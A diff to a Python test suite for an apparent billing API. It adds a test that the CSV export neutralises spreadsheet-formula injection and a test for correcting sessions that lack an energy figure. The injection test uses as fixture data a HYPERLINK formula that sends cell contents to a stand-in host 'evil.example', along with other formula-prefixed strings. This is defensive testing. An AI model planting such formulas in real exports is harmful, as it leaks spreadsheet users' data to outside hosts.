@@ -12,6 +12,7 @@ from decimal import Decimal
 from typing import Any
 
 import httpx
+import msgspec
 import psycopg
 import pytest
 
@@ -205,6 +206,32 @@ async def test_the_csv_export_is_the_stored_cdrs_to_the_cent(
             assert row[column] == str(cdr["total_cost"][part]), (column, row, cdr["total_cost"])
 
 
+async def test_the_csv_export_escapes_formulas_but_not_negative_amounts(
+    clean_db: str, keys: dict[str, str]
+) -> None:
+    """OWASP CSV injection: a text cell a spreadsheet would evaluate (= + - @ tab CR)
+    gets a leading apostrophe; a credit's negative amounts stay numbers."""
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"refund")'
+    cdr = issued_cdr(closed_session(T0, id_tag=link))
+    async with await _connect(clean_db) as conn:
+        await _issue(conn, cdr, id_tag=link, customer="@SUM(1+1)", station="-CP", site="+S")
+        await _issue(conn, credit_of(cdr), id_tag="\tTAB", customer="\rCR", site="S-1")
+    async with api_client(clean_db) as client:
+        resp = await client.get("/v1/cdrs/export.csv", headers=auth(keys["billing"]))
+    assert resp.status_code == 200, resp.text
+    original, credit = list(csv.DictReader(io.StringIO(resp.text)))
+    assert original["id_tag"] == "'" + link
+    assert (original["customer"], original["charge_point_id"], original["site_id"]) == (
+        "'@SUM(1+1)",
+        "'-CP",
+        "'+S",
+    )
+    assert (credit["id_tag"], credit["customer"], credit["site_id"]) == ("'\tTAB", "'\rCR", "S-1")
+    assert credit["total_excl_vat"] == str(-cdr["total_cost"]["excl_vat"])
+    assert credit["total_incl_vat"].startswith("-")
+    assert Decimal(credit["total_incl_vat"]) == -cdr["total_cost"]["incl_vat"]
+
+
 async def _refuse_incomplete_decisions(
     client: httpx.AsyncClient, base: str, held: dict[str, SessionClosed], billing: dict[str, str]
 ) -> None:
@@ -302,6 +329,27 @@ async def test_review_lifecycle_with_audit_and_conflicts(
     assert decision.before["status"] == "held"
     assert decision.after["status"] == "corrected"
     assert decision.after["corrected_energy_wh"] == 7_400
+
+
+async def test_a_session_without_an_energy_figure_is_corrected_not_released(
+    clean_db: str, keys: dict[str, str]
+) -> None:
+    session = msgspec.structs.replace(
+        closed_session(T0, quality=Quality.MISSING), energy_wh=None, energy_source=None
+    )
+    async with await _connect(clean_db) as conn:
+        await review_store.hold_session(conn, session, ["quality missing"])
+    base = f"/v1/billing/reviews/{session.session_id}"
+    async with api_client(clean_db) as client:
+        resp = await client.post(f"{base}/release", headers=auth(keys["billing"]))
+        assert "no energy figure" in assert_problem(resp, 409)["detail"]
+        resp = await client.post(
+            f"{base}/correct",
+            json={"corrected_energy_wh": 5_000, "note": "read on site"},
+            headers=auth(keys["billing"]),
+        )
+        assert resp.status_code == 200, resp.text
+        assert (resp.json()["status"], resp.json()["cdr_id"]) == ("corrected", None)
 
 
 async def test_statement_totals_include_credits(clean_db: str, keys: dict[str, str]) -> None:
